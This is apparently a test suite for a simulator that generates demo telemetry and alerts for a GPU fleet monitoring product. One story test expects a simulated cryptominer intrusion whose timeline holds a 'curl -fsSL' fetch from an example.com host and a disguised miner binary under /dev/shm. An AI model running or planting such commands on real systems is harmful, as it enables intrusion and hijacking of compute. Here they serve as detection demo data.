import { DAY_MS, HOUR_MS } from '@gpu-observatory/domain-types';
import { readFile } from 'node:fs/promises';
import { buildFleet } from '../src/fleet/fleet.ts';
import { simulateHistory } from '../src/history.ts';
import { resolveOptions } from '../src/options.ts';
import { planStories } from '../src/stories/stories.ts';
import { demoNow, demoTenants } from './support/demo-tenants.ts';
import { ObservedGpu } from './support/observed-gpu.ts';
import { recordValidator, type AnyRecord } from './support/record-validator.ts';

// The default demo fleet (64 hosts, 512 GPUs, 90 days, 20,000 alerts). It is generated
// once; all tests check the collected records.
const counts: Record<string, number> = {};
const invalid: string[] = [];
const gpus = new Map<string, ObservedGpu>();
const alerts = new Map<string, AnyRecord>();
const timelines = new Map<string, AnyRecord[]>();

const now = demoNow.getTime();
const customers = demoTenants.map(({ customer_id }) => customer_id);

beforeAll(async () => {
  const problemWith = await recordValidator();
  for (const line of simulateHistory({ now: demoNow, tenants: demoTenants })) {
    const record = JSON.parse(line) as AnyRecord;
    counts[record.kind] = (counts[record.kind] ?? 0) + 1;
    const problem = problemWith(record);
    if (problem && invalid.length < 10) invalid.push(problem);
    collect(record);
  }
});

function collect(record: AnyRecord): void {
  if (record.kind === 'gpu') gpus.set(record['gpu_id'] as string, new ObservedGpu(record));
  else if (record.kind === 'alert') alerts.set(record['id'] as string, record);
  else if (record.kind === 'timeline_event') {
    const id = record['alert_id'] as string;
    if (!alerts.has(id)) invalid.push(`a timeline event comes before its alert ${id}`);
    timelines.set(id, [...(timelines.get(id) ?? []), record]);
  } else if ('gpu_id' in record) gpus.get(record['gpu_id'] as string)?.add(record);
}

test('every line is a valid import record', () => {
  expect(invalid).toEqual([]);
});

test('has the default size', () => {
  expect(counts).toMatchObject({ workspace: 5, gpu: 512, gpu_day: 512 * 90, alert: 20_000 });
  expect(counts).toMatchObject({ host: 64, host_day: 64 * 89 });
  expect(counts['host_sample']).toBeLessThan(30_000);
  for (const kind of ['container', 'process', 'agent_session', 'vm'])
    expect([kind, (counts[kind] ?? 0) > 20 && (counts[kind] ?? 0) < 12_000]).toEqual([kind, true]);
  expect(counts['gpu_sample']).toBeGreaterThan(255_000);
  expect(counts['gpu_sample']).toBeLessThan(285_000);
  expect(new Set([...gpus.values()].map(({ inventory }) => inventory['hostname'])).size).toBe(64);
});

test('the records of each GPU are in time order and not after now', () => {
  for (const gpu of gpus.values()) {
    expect(gpu.times).toEqual(gpu.times.toSorted((one, other) => one - other));
    expect(gpu.times.at(-1)).toBeLessThanOrEqual(now);
  }
});

test('samples begin 24 h ago, where the daily records end, without an overlap', () => {
  const seam = Date.parse('2026-11-20T03:30:00Z');
  for (const gpu of gpus.values()) {
    expect(gpu.days).toBe(90);
    expect(gpu.readings[0]!.at).toBeGreaterThanOrEqual(seam);
  }
  const first = [...gpus.values()].map((gpu) => gpu.readings[0]!.at);
  expect(Math.min(...first)).toBeLessThan(seam + 15_000);
});

test.each(customers)('customer %i has GPUs in all four health states', (customer) => {
  const states = gpusOf(customer).map((gpu) => gpu.healthAt(now));
  expect([...new Set(states)].sort()).toEqual(['critical', 'degraded', 'healthy', 'missing']);
  expect(states.filter((state) => state === 'healthy').length).toBeGreaterThan(states.length * 0.8);
});

test.each(customers)(
  'customer %i has GPUs with and without UUID, XID source, fan and MIG, of both vendors',
  (customer) => {
    const fleet = gpusOf(customer);
    const split = (is: (gpu: ObservedGpu) => boolean) => new Set(fleet.map(is)).size;
    expect(split(({ inventory }) => String(inventory['gpu_id']).startsWith('GPU-'))).toBe(2);
    expect(split((gpu) => gpu.hasXidSource)).toBe(2);
    expect(split(({ readings }) => readings[0]!.fields['fan_pct'] === null)).toBe(2);
    expect(split(({ inventory }) => inventory['mig_enabled'] === true)).toBe(2);
    expect(new Set(fleet.map(({ inventory }) => inventory['vendor']))).toEqual(new Set(['NVIDIA', 'AMD']));
    for (const { inventory } of fleet) {
      expect(inventory['gpu_id']).toMatch(/^(GPU-[0-9a-f-]{36}|[^|]+\|[^|]+\|[^|]+)$/);
    }
  },
);

test.each(customers)(
  'customer %i has alerts of every type, with every section, with and without sessions',
  (customer) => {
    const own = alertsOf(customer);
    expect(new Set(own.map(({ type }) => type)).size).toBe(41);
    for (const section of ['process', 'memory', 'workload', 'gpu', 'container']) {
      const filled = own.filter(
        ({ resource_details }) => details(resource_details)[`${section}_details`] !== null,
      );
      expect(filled.length).toBeGreaterThan(own.length * 0.1);
      expect(filled.length).toBeLessThan(own.length);
    }
    expect(own.every(({ resource_details }) => details(resource_details)['node_details'] !== null)).toBe(
      true,
    );
    const sessions = own.filter((alert) => 'session_id' in alert && 'host_id' in alert).length;
    expect(sessions).toBeGreaterThan(own.length * 0.3);
    expect(sessions).toBeLessThan(own.length * 0.8);
    expect(own.some(({ hostname }) => hostname === null)).toBe(true);
    expect(own.some(({ workspace_id }) => workspace_id === null)).toBe(true);
    expect(own.some(({ workspace_id, api_key_id }) => workspace_id !== null && api_key_id === null)).toBe(
      true,
    );
  },
);

test.each(customers)(
  'at least one alert in six of customer %i has a timeline of 3 to 12 events in order',
  (customer) => {
    const own = alertsOf(customer);
    const withTimeline = own.flatMap((alert) => {
      const events = timelines.get(alert['id'] as string);
      return events ? [{ alert, events }] : [];
    });
    expect(withTimeline.length).toBeGreaterThanOrEqual(own.length / 6);
    for (const { alert, events } of withTimeline) {
      const ts = events.map((event) => event['ts'] as string);
      expect(events.length).toBeGreaterThanOrEqual(3);
      expect(events.length).toBeLessThanOrEqual(12);
      expect(ts).toEqual([...new Set(ts)].sort());
      expect(ts.at(-1)! <= (alert['created_at'] as string)).toBe(true);
    }
    for (const field of ['comm', 'command_line', 'args', 'pwd']) {
      expect(new Set(withTimeline.flatMap(({ events }) => events.map((event) => field in event))).size).toBe(
        2,
      );
    }
  },
);

describe.each(customers)('the stories of customer %i', (customer) => {
  const storyAlert = (title: RegExp) => {
    const found = alertsOf(customer).filter((alert) => title.test(String(alert['title'])));
    return found.toSorted((one, other) =>
      String(one['created_at']) < String(other['created_at']) ? 1 : -1,
    )[0]!;
  };
  const gpusOfHost = (alert: AnyRecord) =>
    gpusOf(customer).filter(({ inventory }) => inventory['hostname'] === alert['hostname']);

  test('a GPU reports XIDs 63, 92, 48 and 79, with an alert for each, and is then missing', () => {
    const alert = storyAlert(/^GPU has fallen off the bus$/);
    const gpu = gpus.get(String(alert['gpu_id']))!;
    expect(gpu.codes.slice(-4)).toEqual([63, 92, 48, 79]);
    expect(gpu.healthAt(now)).toBe('missing');
    const own = alertsOf(customer).filter(
      ({ gpu_id, type, state }) => gpu_id === alert['gpu_id'] && type === 'gpu_ecc' && state === 'active',
    );
    expect(new Set(own.map(({ title }) => title))).toEqual(
      new Set([
        'Row remapping pending on NVIDIA ' + String(alert['gpu_model']).replace('NVIDIA ', ''),
        'Rate of correctable ECC errors is rising',
        'Uncorrectable ECC error',
      ]),
    );
  });

  test('all GPUs of a host heat up under load, some of them near shutdown', () => {
    const own = gpusOfHost(storyAlert(/^GPU temperature near shutdown$/));
    const rises = own.map((gpu) => gpu.temperatureAt(now) - gpu.temperatureAt(now - 2 * HOUR_MS));
    expect(Math.min(...rises)).toBeGreaterThan(15);
    const states = own.map((gpu) => gpu.healthAt(now));
    expect(states).toContain('critical');
    expect(states).not.toContain('healthy');
  });

  test('a miner keeps all GPUs of a host busy without a break until a critical alert and after it', () => {
    const alert = storyAlert(/^Cryptocurrency miner on /);
    expect(alert['severity']).toBe('critical');
    for (const gpu of gpusOfHost(alert)) {
      const busy = gpu.readings.filter(({ at }) => at > now - 5 * HOUR_MS && at <= now);
      expect(busy.length).toBeGreaterThan(100);
      expect(Math.min(...busy.map(({ fields }) => Number(fields['utilization_pct'])))).toBeGreaterThan(95);
    }
    const commands = timelines.get(String(alert['id']))!.map(({ command_line: command }) => command);
    expect(commands).toContain('curl -fsSL http://updates.example.com/i.sh');
    expect(commands.some((command) => String(command).startsWith('/dev/shm/.x/kworkerd'))).toBe(true);
    const [server, shell, download] = timelines.get(String(alert['id']))!;
    expect(shell!['event_info']).toMatch(new RegExp(`, ppid ${String(server!['pid'])}$`));
    expect(download!['event_info']).toMatch(new RegExp(`, ppid ${String(shell!['pid'])}$`));
  });

  test('hosts get a new driver, until one stops reporting', () => {
    const failed = storyAlert(/^NVIDIA kernel module does not load$/);
    expect(new Set(gpusOfHost(failed).map((gpu) => gpu.healthAt(now)))).toEqual(new Set(['missing']));
    const upgraded = gpusOfHost(storyAlert(/^Driver upgraded from /));
    expect(new Set(upgraded.map(({ inventory }) => inventory['driver_version']))).toEqual(
      new Set(gpusOfHost(failed).map(({ inventory }) => inventory['driver_version'])),
    );
    const models = new Set(upgraded.map(({ inventory }) => inventory['model']));
    const drivers = gpusOf(customer).filter(({ inventory }) => models.has(inventory['model']));
    expect(new Set(drivers.map(({ inventory }) => inventory['driver_version'])).size).toBe(2);
  });
});

test('the stories are the same at each hour of a start', () => {
  const storiesAt = (start: Date) => {
    const simulation = resolveOptions({ now: start, tenants: demoTenants });
    const stories = planStories(simulation, buildFleet(simulation));
    return customers.map((customer) =>
      stories.alerts
        .get(customer)!
        .map(({ title, host, at }) => [title, host.hostname, start.getTime() - at]),
    );
  };
  const first = storiesAt(demoNow);
  expect(first.map((titles) => titles.length > 12)).toEqual(customers.map(() => true));
  for (let hour = 1; hour < 24; hour++) {
    expect(storiesAt(new Date(demoNow.getTime() + hour * HOUR_MS))).toEqual(first);
  }
});

test('alert ids are distinct, states and ages follow their distribution, texts have no placeholders', () => {
  expect(alerts.size).toBe(20_000);
  const all = [...alerts.values()];
  const ignored = all.filter(({ state }) => state === 'ignored').length;
  expect(ignored / all.length).toBeGreaterThan(0.13);
  expect(ignored / all.length).toBeLessThan(0.17);
  const age = (alert: AnyRecord) => (now - Date.parse(alert['created_at'] as string)) / DAY_MS;
  expect(Math.max(...all.map(age))).toBeLessThanOrEqual(90);
  expect(Math.min(...all.map(age))).toBeGreaterThan(0);
  expect(all.filter((alert) => age(alert) < 30).length).toBeGreaterThan(
    all.filter((alert) => age(alert) > 60).length * 1.3,
  );
  expect(new Set(all.map(({ severity }) => severity)).size).toBe(5);
  expect(
    all.filter((alert) => /[{}]|undefined/.test(`${String(alert['title'])}${String(alert['description'])}`)),
  ).toEqual([]);
});

test('detail sections have exactly the documented fields, with GPU readings as strings', () => {
  const keys = (name: string) =>
    new Set(
      [...alerts.values()].flatMap(({ resource_details }) => {
        const section = details(resource_details)[name];
        return section ? [Object.keys(section as object).join()] : [];
      }),
    );
  expect(keys('process_details')).toEqual(
    new Set([
      'title,process_name,pid,start_time,current_status,last_modified,parent_process_pid,command_line',
    ]),
  );
  expect(keys('gpu_details')).toEqual(
    new Set([
      'gpu_id,model,vendor,gpu_utilization,temperature,driver_version,firmware_version,serial_number,power_draw,' +
        'fan_speed,clock_throttle_events,host_id,node,utilization_data,temperature_chart',
    ]),
  );
  expect(keys('node_details')).toEqual(
    new Set(['node_id,uptime,cpu_load,number_of_cpus_attached,cpu_utilization_average']),
  );
  for (const { resource_details } of alerts.values()) {
    const { gpu_details: gpu, node_details: node } = details(resource_details);
    const {
      utilization_data: utilization,
      temperature_chart: temperature,
      ...texts
    } = (gpu ?? {}) as AnyRecord;
    expect(Object.values({ ...texts, ...(node as object) }).every((value) => typeof value === 'string')).toBe(
      true,
    );
    if (gpu === null) continue;
    expect((utilization as unknown[]).length).toBe(12);
    expect(temperature).toBeInstanceOf(Array);
  }
});

test('all domains are reserved for documentation', async () => {
  const names = await readFile(new URL('../src/alerts/sample-names.ts', import.meta.url), 'utf8');
  const domains = names.match(/'[a-z0-9.-]+\.(com|net|org)'/g) ?? [];
  expect(domains.length).toBeGreaterThan(0);
  expect(domains.filter((domain) => !/example\.(com|net|org)'$/.test(domain))).toEqual([]);
});

function gpusOf(customer: number): ObservedGpu[] {
  return [...gpus.values()].filter((gpu) => gpu.customer === customer);
}

function alertsOf(customer: number): AnyRecord[] {
  return [...alerts.values()].filter(({ customer_id }) => customer_id === customer);
}

function details(resourceDetails: unknown): Record<string, unknown> {
  return resourceDetails as Record<string, unknown>;
}
